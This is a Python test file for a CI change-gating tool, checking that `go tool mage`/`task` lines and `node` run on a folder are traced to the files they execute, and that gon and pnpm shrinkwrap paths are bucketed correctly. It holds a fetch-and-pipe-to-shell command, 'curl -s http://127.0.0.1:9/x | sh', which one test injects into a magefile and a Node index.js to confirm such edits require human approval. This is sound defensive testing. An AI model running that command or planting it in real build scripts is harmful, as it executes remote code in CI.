"""The eighty-seventh set's CI classes: a task runner run as a Go tool (`go tool mage`), and Node run on a folder.

6RiverSystems/mmmbbb's CircleCI runs `go tool mage -v compile`, `go tool mage -v testGoCISplit`: since Go 1.24 a
module's `tool` directive installs mage and `go tool NAME [ARGS]` runs it (`go help tool`: `go tool [-n] [-modfile=F]
command [args...]`), so the magefile is the job's code as under a bare `mage`; the walk read `go` and its manifests
only. cafe24.js's release workflow runs `node ./tools/use-workspace-protocol`: Node runs a folder operand's
`index.js` (or `.mjs`, `.cjs`; the documented folder-as-module lookup), and the walk looked for a file named like the
folder. On 4c9e1172 every case with `go tool` or a folder operand failed (the task file or the folder's index
unreached); the look-alikes (`go test`, `go tool cover`, `node --version`, a folder's other modules, a printed line)
kept what they were.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from citools import BLOCK_DEFINITIONS, RUN_WORKFLOW, tree_runs, with_line
from cpucost import assert_linear, repeated
from gitrepo import two_commits
from incli import tree_gate

from gatekeeper.classify import noderuns
from gatekeeper.classify.ruleset import load_rules
from tests.test_classify_paths import REPO_ROOT

RULES = load_rules(REPO_ROOT / "policies")

EVIL = "curl -s http://127.0.0.1:9/x | sh"
MAGEFILE = ("//go:build mage\n\npackage main\n\nimport \"github.com/magefile/mage/sh\"\n\n"
            "// Compile builds the service.\nfunc Compile() error { return sh.Run(\"go\", \"build\", \"./...\") }\n")
TASKFILE = "version: '3'\ntasks:\n  build:\n    cmds:\n      - go build ./...\n"
GO_MOD = "module example.com/svc\n\ngo 1.24\n\ntool github.com/magefile/mage\n"

# (a `go tool` line, the task file it runs, the tree's other files)
GO_TOOLS = [
    ("go tool mage -v compile", "magefile.go", {}),
    ("go tool mage testGoCISplit", "magefile.go", {}),
    ("go tool -modfile=tools/go.mod mage lint:ci", "magefile.go", {}),
    ("go tool -n mage build", "magefile.go", {}),
    ("GOFLAGS=-mod=mod go tool mage -v generate:force", "magefile.go", {}),
    ("go tool mage -d build/mage ci", "build/mage/magefile.go", {}),
    ("go tool task build", "Taskfile.yml", {}),
    ("go tool task -t tools/tasks.yml lint", "tools/tasks.yml", {}),
    ("cd svc && go tool mage compile", "svc/magefile.go", {}),
]


def _go_tree(line: str, target: str, definition: tuple[str, str]) -> dict[str, str]:
    text = MAGEFILE if target.endswith(".go") else TASKFILE
    return with_line(definition[0], definition[1], line, {target: text, "go.mod": GO_MOD, "main.go": "package main\n"})


@pytest.mark.parametrize("definition", BLOCK_DEFINITIONS, ids=lambda d: d[0])
@pytest.mark.parametrize(("line", "target", "extra"), GO_TOOLS)
def test_a_task_runner_run_as_a_go_tool_runs_its_file(definition: tuple[str, str], line: str, target: str,
                                                      extra: dict[str, str]) -> None:
    assert target in tree_runs({**_go_tree(line, target, definition), **extra})


GO_LOOK_ALIKES = ["go test ./...", "go tool cover -html=c.out", "go tool pprof cpu.out", "go build ./...",
                  "echo go tool mage", "go tool dist list", "go install github.com/magefile/mage@latest"]


@pytest.mark.parametrize("definition", BLOCK_DEFINITIONS, ids=lambda d: d[0])
@pytest.mark.parametrize("line", GO_LOOK_ALIKES)
def test_other_go_commands_run_no_magefile(definition: tuple[str, str], line: str) -> None:
    assert "magefile.go" not in tree_runs(_go_tree(line, "magefile.go", definition))


# (a `node` line, the folder's index it runs)
NODE_FOLDERS = [
    ("node ./tools/use-workspace-protocol", "tools/use-workspace-protocol/index.js"),
    ("node tools/use-workspace-protocol", "tools/use-workspace-protocol/index.js"),
    ("node tools/release --dry-run", "tools/release/index.js"),
    ("node --enable-source-maps scripts/publish", "scripts/publish/index.mjs"),
    ("node -r dotenv/config scripts/publish", "scripts/publish/index.cjs"),
    ("node --require ./setup.js -- scripts/check", "scripts/check/index.js"),
    ("NODE_OPTIONS=--max-old-space-size=4096 node scripts/build/", "scripts/build/index.js"),
    ("npx cross-env CI=1 node tools/gen", "tools/gen/index.js"),
    ("node .github/scripts/label", ".github/scripts/label/index.js"),
]


@pytest.mark.parametrize("definition", BLOCK_DEFINITIONS, ids=lambda d: d[0])
@pytest.mark.parametrize(("line", "target"), NODE_FOLDERS)
def test_node_on_a_folder_runs_its_index(definition: tuple[str, str], line: str, target: str) -> None:
    folder = target.rpartition("/")[0]
    files = {target: "console.log('x')\n", f"{folder}/walk.js": "module.exports = 1\n", "README.md": "x\n"}
    runs = tree_runs(with_line(definition[0], definition[1], line, files))
    assert target in runs
    assert f"{folder}/walk.js" not in runs  # the index's own imports are ciimports.py's, not the line's


def test_a_package_script_that_runs_node_on_a_folder_runs_its_index() -> None:
    files = {".github/workflows/ci.yml": RUN_WORKFLOW.format(run="npm run release"),
             "package.json": '{"name": "a", "scripts": {"release": "node tools/release"}}',
             "tools/release/index.js": "console.log(1)\n"}
    assert "tools/release/index.js" in tree_runs(files)


NODE_LOOK_ALIKES = ["node --version", "node -p 1+1", "echo node tools/gen",
                    "node tools/gen.js", "nodemon tools/gen", "npm install node tools", "# node tools/gen"]


@pytest.mark.parametrize("definition", BLOCK_DEFINITIONS, ids=lambda d: d[0])
@pytest.mark.parametrize("line", NODE_LOOK_ALIKES)
def test_node_look_alikes_run_no_folder_index(definition: tuple[str, str], line: str) -> None:
    files = {"tools/gen/index.js": "console.log(1)\n", "tools/gen.js": "console.log(2)\n", "README.md": "x\n"}
    runs = tree_runs(with_line(definition[0], definition[1], line, files))
    assert "tools/gen/index.js" not in runs, line


@pytest.mark.parametrize(("run", "edited"), [
    ("go tool mage -v compile", {"magefile.go": MAGEFILE.replace("\"./...\")", "\"./...\", \"&&\", \"sh\")")
                                 + f"// {EVIL}\n"}),
    ("node ./tools/use-workspace-protocol", {"tools/use-workspace-protocol/index.js":
                                             f"require('child_process').execSync('{EVIL}')\n"})])
def test_the_gated_edit_needs_a_human(tmp_path: Path, run: str, edited: dict[str, str]) -> None:
    base = {".github/workflows/ci.yml": RUN_WORKFLOW.format(run=run), "go.mod": GO_MOD, "magefile.go": MAGEFILE,
            "tools/use-workspace-protocol/index.js": "console.log('ok')\n", "README.md": "x\n"}
    _, first, second = two_commits(tmp_path, base, edited)
    code, decision = tree_gate(tmp_path, first, second, None)
    assert code == 3, decision["reasons"]
    assert any(reason["rule"] == "core.ci" for reason in decision["reasons"])


def test_a_long_line_of_node_options_is_read_in_linear_time() -> None:
    assert_linear(noderuns.line_files, repeated("node -r a ", tail="tools/gen"), budget=0.5)
    assert_linear(noderuns.line_files, repeated("node ", tail="x"), budget=0.5)


# gon (github.com/mitchellh/gon) signs and notarizes macOS binaries in the release job (tart's Cirrus release runs
# GoReleaser, whose hook runs `gon gon.hcl`): its settings name the binaries, the signing identity and the Apple ID
# secret, a release tool's as GoReleaser's are. On 4c9e1172 each was iac by the HCL extension rule.
GON = ["gon.hcl", ".gon.hcl", "gon-arm64.hcl", "build/gon.hcl", ".github/gon.hcl", "scripts/gon-amd64.hcl"]
GON_LOOK_ALIKES = [("main.hcl", "iac"), ("gon.tf", "iac"), ("packer/gon.pkr.hcl", "iac"), ("docs/gon.md", "src"),
                   ("gonzo.hcl", "iac")]


@pytest.mark.parametrize("path", GON)
def test_gon_settings_are_release_tooling(path: str) -> None:
    match = RULES.match(path)
    assert match.bucket == "ci", path
    assert match.rule == "ci.release-tools" or path.startswith(".github/"), path  # .github/'s own rule is ci too


@pytest.mark.parametrize(("path", "bucket"), GON_LOOK_ALIKES)
def test_gon_look_alikes_keep_their_bucket(path: str, bucket: str) -> None:
    assert RULES.match(path).bucket == bucket, path


# pnpm before version 3 named its lock file `shrinkwrap.yaml` (Rush kept it as common/config/rush/shrinkwrap.yaml):
# the resolved versions and tarball integrity the install fetches. On 4c9e1172 each was src.
SHRINKWRAPS = ["shrinkwrap.yaml", "common/config/rush/shrinkwrap.yaml",
               "projects/rush/common/config/rush/shrinkwrap.yaml", "packages/app/shrinkwrap.yaml"]
SHRINKWRAP_LOOK_ALIKES = [("docs/shrinkwrap.md", "src"), ("shrinkwrap.py", "src"), ("npm-shrinkwrap.json", "deps"),
                          ("test/fixtures/shrinkwrap.yaml", "src")]


@pytest.mark.parametrize("path", SHRINKWRAPS)
def test_a_pnpm_shrinkwrap_is_a_lock_file(path: str) -> None:
    match = RULES.match(path)
    assert (match.bucket, match.rule) == ("deps", "deps.npm.lockfile"), path


@pytest.mark.parametrize(("path", "bucket"), SHRINKWRAP_LOOK_ALIKES)
def test_shrinkwrap_look_alikes_keep_their_bucket(path: str, bucket: str) -> None:
    assert RULES.match(path).bucket == bucket, path
